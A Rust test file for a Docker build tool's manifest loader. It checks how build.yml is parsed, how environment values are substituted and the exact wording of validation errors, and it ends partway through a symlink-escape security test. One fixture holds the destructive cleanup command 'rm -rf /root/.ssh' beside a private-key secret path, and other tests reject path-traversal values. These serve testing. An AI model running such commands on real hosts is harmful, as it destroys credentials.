//! Loading build.yml: the validated model, `_env()` substitution, and the
//! exact text of every validation error (file, line, column, step, fix).

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use habitus::manifest::{
    load, parse, Artifact, Diagnostics, EnvSource, LoadOptions, Loaded, SchemaVersion, SecretSpec,
    Untrusted,
};
use habitus::model::SecretKind;
use tempfile::TempDir;

/// A work directory holding the given files (each a one-line Dockerfile).
fn workdir(files: &[&str]) -> TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    for file in files {
        let path = dir.path().join(file);
        fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        fs::write(path, "FROM scratch\n").expect("write");
    }
    dir
}

fn providers() -> Vec<SecretKind> {
    SecretKind::ALL.to_vec()
}

fn no_env() -> EnvSource {
    EnvSource::Given(BTreeMap::new())
}

/// Parses `yml` as `build.yml` in `dir` with both secret providers enabled.
fn check(dir: &Path, yml: &str) -> Result<Loaded, Diagnostics> {
    check_with(dir, yml, &no_env(), &providers())
}

fn check_with(
    dir: &Path,
    yml: &str,
    env: &EnvSource,
    sec_providers: &[SecretKind],
) -> Result<Loaded, Diagnostics> {
    parse(
        yml,
        &LoadOptions {
            file: Path::new("build.yml"),
            workdir: dir,
            env,
            sec_providers,
            untrusted: None,
        },
    )
}

/// The printed diagnostics of a build.yml that must be rejected.
fn errors(dir: &Path, yml: &str) -> String {
    match check(dir, yml) {
        Ok(loaded) => panic!("expected errors, got {:#?}", loaded.manifest),
        Err(diagnostics) => diagnostics.to_string(),
    }
}

const FULL: &str = "\
build:
  version: 2016-03-14
  steps:
    compile:
      name: myorg/app_compile
      dockerfile: Dockerfile.compile
      context: sub/dir
      target: build
      args:
        GOOS: linux
        GO_VERSION: 1.10
        EMPTY:
      no_cache: true
      artifacts:
        - /usr/bin/secretapp
        - /etc/app/conf:config
        - /srv/out:.
        - /srv/deep:a/./b/../c
      cleanup:
        commands: [ \"rm -rf /root/.ssh\" ]
      secrets:
        id_rsa:  { type: file, value: /home/me/.ssh/id_rsa }
        npm_tok: { type: env,  value: NPM_TOKEN }
      command: ./run-tests
      after_build_command: make upload
    runtime:
      name: myorg/app:minimal
      dockerfile: Dockerfile.minimal
      depends_on: [ compile ]
      keep: true
    aardvark:
      name: myorg/first-in-the-alphabet
      dockerfile: Dockerfile.minimal
      depends_on:
        - runtime
        - compile
";

#[test]
fn a_full_build_yml_loads_into_the_model() {
    let dir = workdir(&["sub/dir/Dockerfile.compile", "Dockerfile.minimal"]);
    let loaded = check(dir.path(), FULL).expect("valid");
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    let m = loaded.manifest;
    assert_eq!(m.version, SchemaVersion::V20160314);
    assert_eq!(m.file, PathBuf::from("build.yml"));
    assert_eq!(m.workdir, dir.path());
    let labels: Vec<&str> = m.steps.iter().map(|s| s.label.as_str()).collect();
    assert_eq!(labels, ["compile", "runtime", "aardvark"], "file order");

    let compile = &m.steps[0];
    assert_eq!(compile.name, "myorg/app_compile");
    assert_eq!(compile.line, 4);
    assert_eq!(compile.dockerfile, "Dockerfile.compile");
    assert_eq!(compile.context, dir.path().join("sub/dir"));
    assert_eq!(
        compile.dockerfile_path,
        dir.path().join("sub/dir/Dockerfile.compile")
    );
    assert_eq!(compile.target.as_deref(), Some("build"));
    let args: Vec<(&str, &str)> = compile
        .args
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    assert_eq!(
        args,
        [("EMPTY", ""), ("GOOS", "linux"), ("GO_VERSION", "1.10")],
        "values as written"
    );
    assert!(compile.no_cache);
    assert!(!compile.keep);
    let artifact = |source: &str, dest: &str| Artifact {
        source: source.into(),
        dest: PathBuf::from(dest),
    };
    assert_eq!(
        compile.artifacts,
        [
            artifact("/usr/bin/secretapp", ""),
            artifact("/etc/app/conf", "config"),
            artifact("/srv/out", ""),
            artifact("/srv/deep", "a/c"),
        ]
    );
    assert_eq!(compile.cleanup, ["rm -rf /root/.ssh"]);
    assert_eq!(
        compile.secrets.get("id_rsa"),
        Some(&SecretSpec {
            kind: SecretKind::File,
            value: "/home/me/.ssh/id_rsa".into()
        })
    );
    assert_eq!(compile.secrets["npm_tok"].kind, SecretKind::Env);
    assert_eq!(compile.secrets["npm_tok"].value, "NPM_TOKEN");
    assert_eq!(compile.command.as_deref(), Some("./run-tests"));
    assert_eq!(compile.after_build_command.as_deref(), Some("make upload"));
    assert!(compile.depends_on.is_empty());

    let runtime = &m.steps[1];
    assert_eq!(runtime.context, dir.path());
    assert_eq!(
        runtime.dockerfile_path,
        dir.path().join("Dockerfile.minimal")
    );
    assert_eq!(runtime.depends_on, ["compile"]);
    assert!(runtime.keep);
    assert!(!runtime.no_cache);
    assert!(runtime.command.is_none() && runtime.target.is_none());
    assert_eq!(m.steps[2].depends_on, ["runtime", "compile"]);
}

#[test]
fn schema_2016_02_13_loads_without_secrets() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-02-13\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n";
    let m = check(dir.path(), yml).expect("valid").manifest;
    assert_eq!(m.version, SchemaVersion::V20160213);
    // Quoted, as some files write it.
    let yml = yml.replace("2016-02-13", "'2016-03-14'");
    let m = check(dir.path(), &yml).expect("valid").manifest;
    assert_eq!(m.version, SchemaVersion::V20160314);
}

#[test]
fn secrets_under_2016_02_13_are_an_error() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-02-13
  steps:
    one:
      name: one
      dockerfile: Dockerfile
      secrets:
        key: { type: file, value: /k }
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:7:7: step `one`: `secrets` needs schema version `2016-03-14`\n  \
         help: set `version: 2016-03-14` under `build`"
    );
}

#[test]
fn keep_is_read_and_checked() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n      keep: true\n";
    assert!(check(dir.path(), yml).expect("valid").manifest.steps[0].keep);
    let yml = yml.replace("keep: true", "keep: sometimes");
    assert_eq!(
        errors(dir.path(), &yml),
        "error: build.yml:7:13: step `one`: `keep` must be `true` or `false`, found a string"
    );
}

#[test]
fn builder_is_read_and_checked() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n      builder: buildkit\n";
    assert_eq!(
        check(dir.path(), yml).expect("valid").manifest.steps[0].builder,
        Some(habitus::model::Builder::BuildKit)
    );
    let yml = yml.replace("builder: buildkit", "builder: kaniko");
    assert_eq!(
        errors(dir.path(), &yml),
        "error: build.yml:7:16: step `one`: unknown builder `kaniko`\n  help: use `legacy` (the classic builder) or `buildkit`"
    );
}

#[test]
fn registry_keys_are_read_and_checked() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: r.example/one:1\n      dockerfile: Dockerfile\n      push: true\n      tags: [r.example/one:latest, r.example/one:stable]\n      cache_from: [r.example/one:latest]\n      cache_to: inline\n";
    let step = check(dir.path(), yml).expect("valid").manifest.steps[0].clone();
    assert!(step.push);
    assert_eq!(step.tags, ["r.example/one:latest", "r.example/one:stable"]);
    assert_eq!(step.cache_from, ["r.example/one:latest"]);
    assert!(step.cache_to_inline);

    let bad = yml.replace("r.example/one:stable]", "r.example/One:stable]");
    assert_eq!(
        errors(dir.path(), &bad),
        "error: build.yml:8:36: step `one`: `r.example/One:stable` is not an image name: the repository must be lowercase\n  help: write `[registry/]repository[:tag]`, e.g. `registry.example.com/team/app:1.2`"
    );
    let bad = yml.replace("cache_to: inline", "cache_to: registry");
    assert_eq!(
        errors(dir.path(), &bad),
        "error: build.yml:10:17: step `one`: unknown cache export `registry`\n  help: `cache_to: inline` is the one export habitus offers: the cache travels in the pushed image"
    );
    let bad = yml.replace("push: true", "push: later");
    assert_eq!(
        errors(dir.path(), &bad),
        "error: build.yml:7:13: step `one`: `push` must be `true` or `false`, found a string"
    );
    let bad = yml.replace(
        "cache_from: [r.example/one:latest]",
        "cache_from: r.example/one:latest",
    );
    assert!(
        errors(dir.path(), &bad).contains("`cache_from` must be a list"),
        "{}",
        errors(dir.path(), &bad)
    );
}

#[test]
fn a_tag_that_names_another_steps_image_is_an_error() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: r.example/one\n      dockerfile: Dockerfile\n    two:\n      name: r.example/two:1\n      dockerfile: Dockerfile\n      tags: [r.example/one:latest]\n";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:10:13: step `two`: tag `r.example/one:latest` also names the image of step `one`\n  help: give every step's image names of its own"
    );
    let ok = yml.replace(
        "tags: [r.example/one:latest]",
        "tags: [r.example/two:1, r.example/two:latest]",
    );
    assert!(check(dir.path(), &ok).is_ok());
}

#[test]
fn a_name_that_is_no_image_name_is_an_error_naming_the_unset_variable() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: _env(REGISTRY)/app:1\n      dockerfile: Dockerfile\n";
    let text = errors(dir.path(), yml);
    assert!(
        text.starts_with("error: build.yml:5:13: step `one`: `name` `/app:1` is not an image name: a path component is empty"),
        "{text}"
    );
    assert!(text.contains("`REGISTRY` is not set"), "{text}");
}

#[test]
fn invalid_yaml_names_line_and_column() {
    let dir = workdir(&[]);
    let yml = "build:\n  version: 2016-03-14\n  steps: [\n    a: b\n";
    let text = errors(dir.path(), yml);
    assert!(
        text.starts_with("error: build.yml:5:1: invalid YAML: "),
        "{text}"
    );
    let yml = "build:\n  steps:\n    a:\n      name: x\n     dockerfile: y\n";
    let text = errors(dir.path(), yml);
    assert!(text.starts_with("error: build.yml:5:"), "{text}");
    assert!(text.contains("invalid YAML"), "{text}");
}

#[test]
fn duplicate_step_labels_are_invalid_yaml() {
    let dir = workdir(&["Dockerfile"]);
    let yml =
        "build:\n  version: 2016-03-14\n  steps:\n    a:\n      name: a\n    a:\n      name: b\n";
    let text = errors(dir.path(), yml);
    assert!(text.contains("duplicate entry with key \"a\""), "{text}");
}

#[test]
fn missing_version_lists_the_valid_ones() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:1:1: missing `version`\n  help: valid versions: `2016-02-13`, `2016-03-14`"
    );
}

#[test]
fn unknown_version_lists_the_valid_ones_and_shows_the_first_step_in_the_2016_03_14_form() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2017-01-01\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:2:12: unknown schema version `2017-01-01`\n  help: valid versions: `2016-02-13`, `2016-03-14`; habitus reads the 2016-03-14 format (Go Habitus's `build:` with `version:` and a mapping of `steps:`); the first step in it:\n    build:\n      version: 2016-03-14\n      steps:\n        one:\n          name: one\n          dockerfile: Dockerfile"
    );
}

#[test]
fn unknown_step_key_suggests_the_closest() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    base:
      name: base
      dockerfile: Dockerfile
    compile:
      name: compile
      dockerfile: Dockerfile
      depend_on:
        - base
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:10:7: step `compile`: unknown key `depend_on`\n  help: did you mean `depends_on`?"
    );
}

#[test]
fn unknown_keys_are_found_at_every_level() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
bulid: {}
build:
  verison: 2016-03-14
  version: 2016-03-14
  steps:
    one:
      name: one
      dockerfile: Dockerfile
      image: nope
      cleanup:
        comands: [ls]
      secrets:
        key:
          type: file
          vaule: /k
x-anchors: &defaults
  anything: goes
";
    assert_eq!(
        errors(dir.path(), yml),
        "\
error: build.yml:1:1: unknown key `bulid`
  help: did you mean `build`?
error: build.yml:3:3: unknown key `verison`
  help: did you mean `version`?
error: build.yml:9:7: step `one`: unknown key `image`
  help: valid keys: `name`, `dockerfile`, `context`, `target`, `args`, `no_cache`, `artifacts`, `cleanup`, `secrets`, `command`, `after_build_command`, `depends_on`, `keep`, `builder`, `ssh`, `push`, `tags`, `cache_from`, `cache_to`
error: build.yml:11:9: step `one`: unknown key `comands` in `cleanup`
  help: did you mean `commands`?
error: build.yml:13:9: step `one`: secret `key` is missing `value`
  help: for `file` the value is a host path; for `env` a variable NAME read from `HABITUS_NAME`
error: build.yml:15:11: step `one`: unknown key `vaule` in secret `key`
  help: did you mean `value`?"
    );
}

#[test]
fn missing_name_and_dockerfile() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    nameless:
      dockerfile: Dockerfile
    fileless:
      name: fileless
";
    assert_eq!(
        errors(dir.path(), yml),
        "\
error: build.yml:4:5: step `nameless`: missing `name`
  help: `name` is the image name to build, e.g. `name: myorg/app`
error: build.yml:6:5: step `fileless`: missing `dockerfile`
  help: `dockerfile` is a path relative to the build context, e.g. `dockerfile: Dockerfile`"
    );
}

#[test]
fn duplicate_image_names_across_steps() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    first:
      name: myorg/app
      dockerfile: Dockerfile
    second:
      name: myorg/app
      dockerfile: Dockerfile
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:8:13: step `second`: image name `myorg/app` is already used by step `first`\n  \
         help: give every step its own `name`"
    );
}

/// `app`, `app:latest` and `docker.io/library/app:latest` are one Docker
/// image: the error names both steps and both spellings.
#[test]
fn image_names_are_compared_as_docker_reads_them() {
    let dir = workdir(&["Dockerfile"]);
    for (first, second) in [
        ("app", "app:latest"),
        ("app:latest", "docker.io/library/app:latest"),
        ("docker.io/app", "app"),
    ] {
        let yml = format!(
            "\
build:
  version: 2016-03-14
  steps:
    first:
      name: {first}
      dockerfile: Dockerfile
    second:
      name: {second}
      dockerfile: Dockerfile
"
        );
        assert_eq!(
            errors(dir.path(), &yml),
            format!(
                "error: build.yml:8:13: step `second`: image name `{second}` is the image `{first}` of step `first`: Docker reads both as `app:latest`\n  \
                 help: give every step its own `name`"
            )
        );
    }
    let yml = "\
build:
  version: 2016-03-14
  steps:
    first:
      name: app:1
      dockerfile: Dockerfile
    second:
      name: myorg/app
      dockerfile: Dockerfile
";
    assert!(check(dir.path(), yml).is_ok());
}

#[test]
fn depends_on_an_unknown_step_suggests_the_closest_label() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    compile:
      name: compile
      dockerfile: Dockerfile
    runtime:
      name: runtime
      dockerfile: Dockerfile
      depends_on:
        - complie
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:11:11: step `runtime`: `depends_on` names unknown step `complie`\n  \
         help: did you mean `compile`?"
    );
}

#[test]
fn a_dependency_cycle_prints_its_whole_path() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    a:
      name: a
      dockerfile: Dockerfile
      depends_on: [b]
    b:
      name: b
      dockerfile: Dockerfile
      depends_on:
        - c
    c:
      name: c
      dockerfile: Dockerfile
      depends_on:
        - a
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:7:20: step `a`: circular dependency `a -> b -> c -> a`\n  \
         help: remove one of these `depends_on` entries"
    );
}

#[test]
fn a_step_depending_on_itself_is_a_cycle() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    a:\n      name: a\n      dockerfile: Dockerfile\n      depends_on:\n        - a\n";
    let text = errors(dir.path(), yml);
    assert!(
        text.starts_with("error: build.yml:8:11: step `a`: circular dependency `a -> a`"),
        "{text}"
    );
}

#[test]
fn a_missing_dockerfile_prints_the_resolved_path() {
    let dir = workdir(&["sub/Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      context: sub
      dockerfile: Dockerfile.nope
";
    let sub = dir.path().join("sub");
    assert_eq!(
        errors(dir.path(), yml),
        format!(
            "error: build.yml:7:19: step `one`: dockerfile `Dockerfile.nope` not found at `{}`\n  \
             help: `dockerfile` is relative to the build context `{}`",
            sub.join("Dockerfile.nope").display(),
            sub.display()
        )
    );
}

#[test]
fn a_missing_context_prints_the_resolved_path() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      context: nowhere/../missing
      dockerfile: Dockerfile
";
    assert_eq!(
        errors(dir.path(), yml),
        format!(
            "error: build.yml:6:16: step `one`: context `nowhere/../missing` not found at `{}`\n  \
             help: `context` is relative to the work directory `{}`",
            dir.path().join("missing").display(),
            dir.path().display()
        )
    );
}

#[test]
fn a_context_outside_the_work_dir_is_rejected() {
    let outer = workdir(&["Dockerfile", "work/Dockerfile"]);
    let dir = outer.path().join("work");
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      context: sub/../..
      dockerfile: Dockerfile
";
    assert_eq!(
        errors(&dir, yml),
        format!(
            "error: build.yml:6:16: step `one`: context `sub/../..` is outside the work directory `{}`\n  \
             help: the context must be the work directory or a folder inside it",
            dir.display()
        )
    );
}

#[test]
fn artifact_sources_must_be_absolute() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      dockerfile: Dockerfile
      artifacts:
        - /ok
        - usr/bin/app:bin
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:9:11: step `one`: artifact source `usr/bin/app` is not an absolute path\n  \
         help: write the full path inside the image, e.g. `/usr/bin/app`"
    );
}

#[test]
fn artifact_destinations_must_stay_in_the_work_dir() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      dockerfile: Dockerfile
      artifacts:
        - /app:out/../../elsewhere
";
    assert_eq!(
        errors(dir.path(), yml),
        format!(
            "error: build.yml:8:11: step `one`: artifact destination `out/../../elsewhere` is outside the work directory\n  \
             help: write a folder relative to the work directory `{}`",
            dir.path().display()
        )
    );
}

#[test]
fn an_absolute_artifact_destination_is_relative_to_the_work_dir_as_in_go_habitus() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: one\n      dockerfile: Dockerfile\n      artifacts: [\"/app:/out\"]\n";
    let loaded = check(dir.path(), yml).expect("valid");
    assert_eq!(
        loaded.manifest.steps[0].artifacts[0].dest,
        PathBuf::from("out")
    );
    assert_eq!(
        loaded.warnings,
        ["build.yml:7: artifact destination `/out` is taken relative to the work directory"]
    );
}

const SECRET: &str = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: one
      dockerfile: Dockerfile
      secrets:
        token:
          type: TYPE
          value: NPM_TOKEN
";

#[test]
fn an_unknown_secret_type_suggests_the_closest() {
    let dir = workdir(&["Dockerfile"]);
    assert_eq!(
        errors(dir.path(), &SECRET.replace("TYPE", "fiel")),
        "error: build.yml:9:17: step `one`: unknown secret type `fiel`\n  \
         help: did you mean `file`? valid types: `file`, `env`"
    );
    assert_eq!(
        errors(dir.path(), &SECRET.replace("TYPE", "vault")),
        "error: build.yml:9:17: step `one`: unknown secret type `vault`\n  \
         help: valid types: `file`, `env`"
    );
}

#[test]
fn a_secret_type_must_be_enabled_by_sec_providers() {
    let dir = workdir(&["Dockerfile"]);
    let only_file = vec![SecretKind::File];
    let err = check_with(
        dir.path(),
        &SECRET.replace("TYPE", "env"),
        &no_env(),
        &only_file,
    )
    .expect_err("env is not enabled");
    assert_eq!(
        err.to_string(),
        "error: build.yml:9:17: step `one`: secret type `env` is not enabled\n  \
         help: enable it with `--sec-providers=file,env`"
    );
    let loaded = check(dir.path(), &SECRET.replace("TYPE", "env")).expect("valid");
    assert_eq!(
        loaded.manifest.steps[0].secrets["token"].kind,
        SecretKind::Env
    );
}

#[test]
fn env_values_come_from_given_pairs_and_unset_names_warn() {
    let dir = workdir(&["Dockerfile.prod"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: myorg/_env(APP):_env(TAG)
      dockerfile: Dockerfile._env(FLAVOUR)
      args:
        HOME: _env(HOME)
";
    let env = EnvSource::Given(BTreeMap::from([
        ("APP".to_owned(), "web".to_owned()),
        ("FLAVOUR".to_owned(), "prod".to_owned()),
        ("TAG".to_owned(), "1.2".to_owned()),
    ]));
    let loaded = check_with(dir.path(), yml, &env, &providers()).expect("valid");
    let step = &loaded.manifest.steps[0];
    assert_eq!(step.name, "myorg/web:1.2");
    assert_eq!(step.dockerfile, "Dockerfile.prod");
    // HOME is set in the process, but once `--env` is given it is not read.
    assert_eq!(step.args["HOME"], "");
    assert_eq!(
        loaded.warnings,
        ["build.yml:8: _env(HOME) is not set; using an empty value"]
    );
}

#[test]
fn each_unset_variable_is_warned_about_once_with_every_line_using_it() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: app_env(TAG)
      dockerfile: Dockerfile
      args:
        A: _env(TAG)
        B: x_env(OTHER)-_env(TAG)
        C: _env(TAG)
";
    let env = EnvSource::Given(BTreeMap::new());
    let loaded = check_with(dir.path(), yml, &env, &providers()).expect("valid");
    assert_eq!(
        loaded.warnings,
        [
            "build.yml:5: _env(TAG) is not set (also used on lines 8, 9, 10); using an empty value",
            "build.yml:9: _env(OTHER) is not set; using an empty value",
        ]
    );
}

#[test]
fn env_values_come_from_the_process_environment() {
    let dir = workdir(&["Dockerfile"]);
    let name = format!("HABITUS_MANIFEST_TEST_{}", std::process::id());
    std::env::set_var(&name, "from-process");
    let yml = format!(
        "build:\n  version: 2016-03-14\n  steps:\n    one:\n      name: _env({name})\n      dockerfile: Dockerfile\n"
    );
    let loaded = check_with(dir.path(), &yml, &EnvSource::Process, &providers()).expect("valid");
    std::env::remove_var(&name);
    assert_eq!(loaded.manifest.steps[0].name, "from-process");
    assert!(loaded.warnings.is_empty());
}

#[test]
fn every_error_is_reported_together_in_file_order() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    a:
      name: dup
      dockerfile: Dockerfile.missing
      no-cache: true
    b:
      name: dup
      dockerfile: Dockerfile
      depends_on: [zzz]
      artifacts:
        - relative
";
    let text = errors(dir.path(), yml);
    let heads: Vec<&str> = text.lines().filter(|l| l.starts_with("error: ")).collect();
    assert_eq!(
        heads,
        [
            format!(
                "error: build.yml:6:19: step `a`: dockerfile `Dockerfile.missing` not found at `{}`",
                dir.path().join("Dockerfile.missing").display()
            )
            .as_str(),
            "error: build.yml:7:7: step `a`: unknown key `no-cache`",
            "error: build.yml:9:13: step `b`: image name `dup` is already used by step `a`",
            "error: build.yml:11:20: step `b`: `depends_on` names unknown step `zzz`",
            "error: build.yml:13:11: step `b`: artifact source `relative` is not an absolute path",
        ]
    );
    assert!(
        text.contains("\n  help: did you mean `no_cache`?\n"),
        "{text}"
    );
    assert!(text.contains("\n  help: known steps: `a`, `b`\n"), "{text}");
}

#[test]
fn type_errors_name_the_key_and_what_was_found() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: [not, a, string]
      dockerfile: Dockerfile
      depends_on: other
";
    assert_eq!(
        errors(dir.path(), yml),
        "\
error: build.yml:5:13: step `one`: `name` must be a string, found a list
error: build.yml:7:19: step `one`: `depends_on` must be a list, found a string
  help: write it as a list, e.g. `depends_on: [compile]`"
    );
}

#[test]
fn merge_keys_and_x_extension_keys_work() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
x-common: &common
  dockerfile: Dockerfile
  no_cache: true
build:
  version: 2016-03-14
  steps:
    one:
      <<: *common
      name: one
";
    let step = &check(dir.path(), yml).expect("valid").manifest.steps[0];
    assert_eq!(step.dockerfile, "Dockerfile");
    assert!(step.no_cache);
}

#[test]
fn an_empty_or_shapeless_file_says_what_a_build_yml_looks_like() {
    let dir = workdir(&[]);
    assert_eq!(
        errors(dir.path(), "# nothing\n"),
        "error: build.yml: the file is empty\n  \
         help: a build.yml starts with `build:`, holding `version:` and `steps:`"
    );
    // Top-level `steps` is an older format: one error, with the form.
    assert_eq!(
        errors(dir.path(), "steps: {}\n"),
        "\
error: build.yml:1:1: this looks like an older build.yml format: `steps` at the top level, without `build:` and `version:`
  help: habitus reads the 2016-03-14 format (Go Habitus's `build:` with `version:` and a mapping of `steps:`); the first step in it:
    build:
      version: 2016-03-14
      steps:
        compile:
          name: myorg/app
          dockerfile: Dockerfile"
    );
    assert_eq!(
        errors(dir.path(), "stages: {}\n"),
        "\
error: build.yml: missing key `build`
  help: a build.yml starts with `build:`, holding `version:` and `steps:`
error: build.yml:1:1: unknown key `stages`
  help: valid keys: `build`"
    );
}

#[test]
fn load_reads_the_file_and_names_it_as_given() {
    let dir = workdir(&["Dockerfile"]);
    let file = dir.path().join("habitus.yml");
    fs::write(
        &file,
        "build:\n  version: 2016-03-14\n  steps:\n    one:\n      nme: one\n      dockerfile: Dockerfile\n",
    )
    .unwrap();
    let env = no_env();
    let providers = providers();
    let opts = LoadOptions {
        file: &file,
        workdir: dir.path(),
        env: &env,
        sec_providers: &providers,
        untrusted: None,
    };
    let err = load(&opts).expect_err("unknown key");
    assert!(err.to_string().starts_with(&format!(
        "error: {}:4:5: step `one`: missing `name`",
        file.display()
    )));

    let missing = dir.path().join("nope.yml");
    let err = load(&LoadOptions {
        file: &missing,
        ..opts
    })
    .expect_err("no file");
    assert!(err.to_string().starts_with(&format!(
        "error: {}: cannot read the file: ",
        missing.display()
    )));
}

#[test]
fn oversized_and_non_utf8_files_are_rejected() {
    let dir = workdir(&[]);
    let env = no_env();
    let providers = providers();
    let big = dir.path().join("big.yml");
    let mut text = String::from("# padding\n");
    while text.len() <= habitus::manifest::MAX_FILE_SIZE {
        text.push_str(&"#".repeat(1000));
        text.push('\n');
    }
    fs::write(&big, &text).unwrap();
    let opts = LoadOptions {
        file: Path::new("big.yml"),
        workdir: dir.path(),
        env: &env,
        sec_providers: &providers,
        untrusted: None,
    };
    let err = load(&LoadOptions { file: &big, ..opts }).expect_err("too large");
    assert!(err.to_string().ends_with("the file is larger than 1 MiB\n  help: a build.yml describes steps; keep data in the build context"));
    let err = parse(&text, &opts).expect_err("too large");
    assert!(err
        .to_string()
        .starts_with("error: big.yml: the file is larger than 1 MiB"));

    let bad = dir.path().join("bad.yml");
    fs::write(&bad, b"build:\n  version: \xff\n").unwrap();
    let err = load(&LoadOptions { file: &bad, ..opts }).expect_err("not utf-8");
    assert_eq!(
        err.to_string(),
        format!("error: {}:2: the file is not valid UTF-8", bad.display())
    );
}

/// `steps` labelled `s0000`…; step `i` depends on up to 4 earlier steps.
fn generated(steps: usize) -> String {
    let mut yml = String::from("build:\n  version: 2016-03-14\n  steps:\n");
    for i in 0..steps {
        write!(
            yml,
            "    s{i:04}:\n      name: myorg/image-{i}\n      dockerfile: Dockerfile\n      args:\n        N: {i}\n"
        )
        .unwrap();
        if i > 0 {
            yml.push_str("      depends_on:\n");
            for d in [i / 2, i.saturating_sub(1), i / 3, i * 3 / 4] {
                writeln!(yml, "        - s{d:04}").unwrap();
            }
        }
    }
    yml
}

#[test]
fn two_thousand_steps_load() {
    // Speed is measured by `cargo bench --bench check`, not here.
    let dir = workdir(&["Dockerfile"]);
    let yml = generated(2000);
    let m = check(dir.path(), &yml).expect("valid").manifest;
    assert_eq!(m.steps.len(), 2000);
    assert_eq!(m.steps[1999].depends_on.len(), 4);
}

#[test]
fn scalars_keep_the_text_as_written_in_block_and_flow_style() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    one:
      name: myorg/app
      dockerfile: Dockerfile
      args: { GO: 1.10, HEX: 0x1F, ON: True, QUOTED: '007' }
      command: 1.50
";
    let step = &check(dir.path(), yml).expect("valid").manifest.steps[0];
    let args: Vec<(&str, &str)> = step
        .args
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    assert_eq!(
        args,
        [
            ("GO", "1.10"),
            ("HEX", "0x1F"),
            ("ON", "True"),
            ("QUOTED", "007")
        ]
    );
    assert_eq!(step.command.as_deref(), Some("1.50"));
}

#[test]
fn labels_that_differ_only_in_yaml_type_are_duplicates() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    1:
      name: a
      dockerfile: Dockerfile
    \"1\":
      name: b
      dockerfile: Dockerfile
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:7:5: step `1`: this step label is used more than once\n  \
         help: every label under `steps` must be unique"
    );
}

#[test]
fn sec_providers_may_be_given_comma_separated() {
    let dir = workdir(&["Dockerfile"]);
    let cli = habitus::cli::parse(["habitus", "--sec-providers=file,env"]).expect("valid flags");
    let joined = cli.flags.sec_providers.0;
    assert_eq!(joined, [SecretKind::File, SecretKind::Env]);
    let loaded = check_with(
        dir.path(),
        &SECRET.replace("TYPE", "env"),
        &no_env(),
        &joined,
    )
    .expect("valid");
    assert_eq!(
        loaded.manifest.steps[0].secrets["token"].kind,
        SecretKind::Env
    );
}

/// Security round 2: a repository that commits symlinks cannot make a path
/// build.yml names lead out of the work directory; each is reported at its
/// line with the symlink.
#[test]
fn symlinks_that_lead_out_of_the_work_directory_are_reported_with_the_link() {
    use std::os::unix::fs::symlink;
    let dir = workdir(&["Dockerfile", "sub/Dockerfile"]);
    let outside = tempfile::tempdir().unwrap();
